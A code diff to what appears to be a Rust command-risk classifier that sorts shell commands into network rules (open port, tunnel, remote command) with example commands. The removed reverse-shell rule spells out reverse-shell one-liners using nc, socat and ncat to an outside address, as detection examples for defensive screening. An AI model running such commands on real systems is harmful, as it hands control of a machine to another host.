@@ -1,13 +1,14 @@
 //! The network: fetching, sending, connecting, other machines, looking around and attacking.
 
+mod browsers;
 mod connections;
 mod probing;
 mod remote;
 mod transfer;
 mod web;
+mod web_options;
 
 pub(crate) use connections::tls_client;
-pub use connections::{from_connection, to_connection};
 use signoff_model::{EffectKind, Reversible, Risk, Span};
 
 use super::{
@@ -29,15 +30,12 @@ rules! {
         .examples(&["curl -d '{}' http://localhost:3000/api"], &["curl http://localhost:3000/api", "curl -d '{}' https://example.com/api"]);
     OPTION_FILE = Rule::new("option-file", EffectKind::Opaque, Risk::Medium, "takes its targets and options from a file that cannot be read here: {}", "从无法读取的文件获取目标和选项：{}")
         .examples(&["curl -K /tmp/curlrc"], &["curl -k https://example.com"]);
-    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives a shell on this machine to another one: {}", "把本机的 shell 交给另一台机器：{}")
-        .absurd().reversible(Reversible::No).priority(Priority::P0)
-        .examples(&["nc -e /bin/sh 203.0.113.7 4444", "socat TCP:203.0.113.7:4444 EXEC:/bin/bash", "ncat --sh-exec bash 203.0.113.7 80", "nc -lvp 4444 -e /bin/bash"], &["nc -zv localhost 80", "nc -h"]);
     LISTEN = Rule::new("open-port", EffectKind::NetworkRead, Risk::Medium, "lets others connect to this machine: {}", "让其他机器连接到本机：{}")
         .examples(&["nc -l 8080", "socat TCP-LISTEN:80,fork TCP:10.0.0.2:80"], &["nc -z localhost 8080"]);
     REMOTE_COMMAND = Rule::new("remote-command", EffectKind::NetworkWrite, Risk::Medium, "runs something on another machine: {}", "在另一台机器上运行：{}")
         .examples(&["ssh web1 ./restart-app", "ssh web1", "ssh deploy@web1 'systemctl restart app'"], &["ssh web1 uptime", "ssh -V", "ssh -T git@github.com"]);
     TUNNEL = Rule::new("tunnel", EffectKind::NetworkWrite, Risk::High, "opens a tunnel between this machine and another: {}", "在本机与另一台机器之间打开隧道：{}")
-        .examples(&["ssh -R 8080:localhost:80 host", "ssh -N -D 1080 host", "sshuttle -r host 10.0.0.0/8"], &["ssh host uptime"]);
+        .examples(&["ssh -R 8080:localhost:80 host", "ssh -N -D 1080 host"], &["ssh host uptime"]);
     GRANT_LOGIN = Rule::new("grant-login", EffectKind::Privilege, Risk::High, "lets a key log in to another machine: {}", "让密钥能登录另一台机器：{}")
         .examples(&["ssh-copy-id user@host"], &["ssh-add -l", "ssh-copy-id -n user@host"]);
     CHANGE_KEY = Rule::new("change-key", EffectKind::Overwrite, Risk::Medium, "changes an existing key: {}", "更改已有密钥：{}")
@@ -59,6 +57,7 @@ static TABLES: [&&[Tool]; 2] = [&probing::TOOLS, &transfer::TOOLS];
 /// The judgement for a program of this family.
 pub fn find(name: &str) -> Option<Judge> {
     web::find(name)
+        .or_else(|| browsers::find(name))
         .or_else(|| connections::find(name))
         .or_else(|| remote::find(name))
         .or_else(|| probing::find(name))
